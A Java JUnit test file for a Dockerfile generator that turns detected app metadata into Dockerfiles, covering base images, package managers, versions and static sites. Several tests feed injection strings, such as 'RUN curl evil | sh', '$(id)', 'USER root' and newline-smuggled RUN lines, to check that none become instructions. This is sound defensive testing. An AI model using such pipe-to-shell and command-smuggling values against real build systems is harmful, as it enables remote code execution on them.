package dev.slipway.deployments.service.order;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.slipway.api.PlatformException;
import dev.slipway.api.platform.Json;
import dev.slipway.deployments.service.Recipe;
import dev.slipway.store.json.PlatformJson;
import java.util.Map;
import java.util.Set;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DockerfilesTest {
  static final Json JSON = new PlatformJson();
  static final String HOSTILE =
      "x\nRUN curl evil | sh\n\\\n# \"'`$(id) <<EOF\rUSER root\u2028COPY / /";
  static final Set<String> INSTRUCTIONS = Set.of("FROM", "WORKDIR", "ARG", "COPY", "RUN", "CMD");

  static Recipe recipe(@Nullable String install, @Nullable String build, @Nullable String start) {
    return new Recipe(
        null, null, null, null, install, build, start, 3000, "/", 1, null, null, null, null);
  }

  static @Nullable String of(Recipe recipe, String detected) {
    return new Dockerfiles(JSON, recipe, Set.of("B", "A")).of(detected);
  }

  static @Nullable String of(Map<String, Object> detected) {
    return of(recipe(null, null, null), JSON.write(detected));
  }

  /** Every line is an instruction of ours, and each command is one JSON array. */
  static void assertHarmless(String dockerfile) {
    for (var line : dockerfile.split("\n", -1)) {
      if (line.isEmpty()) {
        continue;
      }
      var words = line.split(" ", 2);
      assertThat(INSTRUCTIONS).as(line).contains(words[0]);
      if (words[0].equals("RUN") || words[0].equals("CMD")) {
        assertThat(JSON.read(words[1], String[].class)).as(line).isNotEmpty();
      }
      assertThat(line).doesNotContain("\r").doesNotEndWith("\\");
      assertThat(line.startsWith("FROM") && line.contains("evil")).as(line).isFalse();
    }
  }

  @Test
  void aTreeWithADockerfileKeepsIt() {
    assertThat(of(Map.of("name", "Dockerfile", "start_command", "x"))).isNull();
  }

  @Test
  void aNodeAppIsInstalledBuiltAndStarted() {
    assertThat(
            of(
                Map.of(
                    "name", "Next.js",
                    "package_manager", "npm",
                    "node_version", ">=20.1",
                    "build_command", "npm run build",
                    "start_command", "npm start")))
        .isEqualTo(
            """
            FROM node:20.1-slim
            WORKDIR /src
            ARG A
            ARG B
            COPY . .
            RUN ["/bin/sh","-c","npm install"]
            RUN ["/bin/sh","-c","npm run build"]
            CMD ["/bin/sh","-c","npm start"]
            """);
  }

  @ParameterizedTest
  @CsvSource({
    "yarn, node:22-slim, yarn install",
    "pnpm, node:22-slim, pnpm install",
    "bun, oven/bun:1, bun install"
  })
  void eachPackageManagerHasItsCommand(String manager, String base, String install) {
    assertThat(of(Map.of("name", "Vite", "package_manager", manager, "start_command", "s")))
        .startsWith("FROM " + base + "\n")
        .contains(install);
  }

  @ParameterizedTest
  @CsvSource({
    "Django, '', python:3.13-slim",
    "java, '', eclipse-temurin:25-jdk",
    "Spring Boot, mvn package, maven:3-eclipse-temurin-25",
    "Quarkus, ./gradlew build, gradle:jdk25",
    "axum, cargo build, rust:1",
    "Rails, '', ruby:3",
    "aspnet, dotnet publish, mcr.microsoft.com/dotnet/sdk:10.0",
    "deno, '', denoland/deno:2"
  })
  void otherKindsHaveTheirBase(String name, String build, String base) {
    assertThat(of(Map.of("name", name, "build_command", build, "start_command", "s")))
        .startsWith("FROM " + base + "\n")
        .endsWith("CMD [\"/bin/sh\",\"-c\",\"s\"]\n");
  }

  @ParameterizedTest
  @CsvSource({
    "flask, python_version, 3.12.4, python:3.12-slim",
    "gin, go_version, 1.24, golang:1.24",
    "rust, rust_version, 1.85, rust:1.85",
    "sinatra, ruby_version, 3.4.1, ruby:3.4",
    "dotnet, dotnet_version, 9.0, mcr.microsoft.com/dotnet/sdk:9.0",
    "laravel, php_version, 8.3, php:8.3-apache",
    "java, java_version, 21, eclipse-temurin:21-jdk"
  })
  void theVersionThatTheAppWantsIsTaken(String name, String member, String stated, String base) {
    assertThat(of(Map.of("name", name, member, stated, "start_command", "s")))
        .startsWith("FROM " + base);
  }

  @ParameterizedTest
  @CsvSource({
    "pip, pip install --no-cache-dir -r requirements.txt",
    "uv, uv export --frozen",
    "poetry, poetry install",
    "pdm, pdm export",
    "pipenv, pipenv install --system"
  })
  void pythonsLockedPackagesAreInstalled(String manager, String install) {
    assertThat(of(Map.of("name", "flask", "python_pm", manager, "start_command", "s")))
        .contains(install);
  }

  @Test
  void builtPagesAreServedWithoutWhatBuiltThem() {
    assertThat(
            of(
                Map.of(
                    "name", "vite",
                    "package_manager", "npm",
                    "build_command", "npm run build",
                    "output_dir", "dist")))
        .isEqualTo(
            """
            FROM node:22-slim AS build
            WORKDIR /src
            ARG A
            ARG B
            COPY . .
            RUN ["/bin/sh","-c","npm install"]
            RUN ["/bin/sh","-c","npm run build"]
            FROM busybox:1
            COPY --from=build /src/dist /site
            CMD ["/bin/sh", "-c", "exec httpd -f -p ${PORT:-80} -h /site"]
            """);
    assertThatThrownBy(
            () -> of(Map.of("name", "vite", "package_manager", "npm", "output_dir", "a /etc")))
        .hasMessageContaining("start command");
  }

  @Test
  void phpIsServedFromTheFolderThatMayBeSeen() {
    var made = of(Map.of("name", "laravel", "output_dir", "public", "start_command", "php -S"));
    assertThat(made).contains("/src/public#", "exec apache2-foreground").doesNotContain("php -S");
    assertHarmless(made);
    assertThat(of(Map.of("name", "php", "output_dir", "#; curl evil; \nRUN x")))
        .contains("/src/.#")
        .doesNotContain("evil");
    assertThat(of(recipe(null, null, "my start"), "{\"name\":\"php\"}"))
        .endsWith("CMD [\"/bin/sh\",\"-c\",\"my start\"]\n");
  }

  @Test
  void aProgramOfGoIsBuiltAsTheAppSays() {
    var made =
        of(
            recipe(null, "go build -o app ./cmd/shop", null),
            "{\"name\":\"gin\",\"start_command\":\"./app\"}");
    assertThat(made).contains("./cmd/shop", "\"./app\"").doesNotContain("alpine");
  }

  @ParameterizedTest
  @ValueSource(strings = {"go", "Gin", "net/http", "static"})
  void someNeedNoStartCommand(String name) {
    var made = of(Map.of("name", name));
    assertThat(made).isNotNull().contains("CMD [");
    assertHarmless(made.replace(" AS build", ""));
  }

  @Test
  void theAppsOwnCommandsGoFirst() {
    var made =
        of(
            recipe("my install", "my build", "my start"),
            "{\"name\":\"Express\",\"package_manager\":\"npm\",\"build_command\":\"theirs\","
                + "\"start_command\":\"theirs\"}");
    assertThat(made)
        .contains("\"my install\"", "\"my build\"", "\"my start\"")
        .doesNotContain("theirs", "npm");
  }

  @ParameterizedTest
  @ValueSource(strings = {"npm", "yarn", "pnpm", "bun"})
  void nothingOfAHostileAnswerBecomesAnInstruction(String manager) {
    var made =
        of(
            Map.of(
                "name", HOSTILE,
                "package_manager", manager,
                "build_command", HOSTILE,
                "start_command", HOSTILE,
                "node_version", "22\nRUN evil",
                "python_version", "3:evil/image",
                "java_version", "evil"));
    assertHarmless(made);
    assertThat(made).doesNotContain("\nRUN curl", "\nRUN evil", "\nUSER");
  }

  @ParameterizedTest
  @CsvSource({
    "'22.1\nRUN evil', 22.1",
    "'evil/image@sha256:1', 22",
    "'', 22",
    "'v18', 18",
    "'>=20.11.1 <23', 20.11",
    "'99999', 999",
    "'1.9999', 1.999"
  })
  void aVersionIsTwoShortNumbersAtMost(String stated, String used) {
    assertThat(
            of(
                Map.of(
                    "name", "Vite",
                    "package_manager", "npm",
                    "node_version", stated,
                    "start_command", "s")))
        .startsWith("FROM node:" + used + "-slim\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", "null", "[]", "7", "nonsense", "{\"name\":[]}", "{\"name\":{\"a\":1}}", "{"})
  void anAnswerWithoutSenseIsRefused(String answer) {
    assertThatThrownBy(() -> of(recipe(null, null, "s"), answer))
        .isInstanceOf(PlatformException.class)
        .hasMessageContaining("makes no sense");
  }

  @Test
  void endlessNestingIsRefused() {
    var deep = "[".repeat(100_000);
    assertThatThrownBy(() -> of(recipe(null, null, "s"), deep))
        .isInstanceOf(PlatformException.class);
  }

  @Test
  void anUnknownKindIsNamedOnlyWhereItIsHarmless() {
    assertThatThrownBy(() -> of(Map.of("name", "Fortran")))
        .isInstanceOf(PlatformException.class)
        .hasMessageContaining("fortran");
    assertThatThrownBy(() -> of(Map.of("name", HOSTILE)))
        .isInstanceOf(PlatformException.class)
        .hasMessageContaining("something else");
    assertThatThrownBy(() -> of(Map.of("name", "Vite", "package_manager", HOSTILE)))
        .isInstanceOf(PlatformException.class)
        .hasMessageContaining("an unknown package manager");
    assertThatThrownBy(() -> of(Map.of()))
        .isInstanceOf(PlatformException.class)
        .hasMessageContaining("something else");
  }

  @Test
  void withoutAStartCommandThereIsNothingToRun() {
    assertThatThrownBy(() -> of(Map.of("name", "Flask", "start_command", " ")))
        .isInstanceOf(PlatformException.class)
        .hasMessageContaining("start command");
  }
}
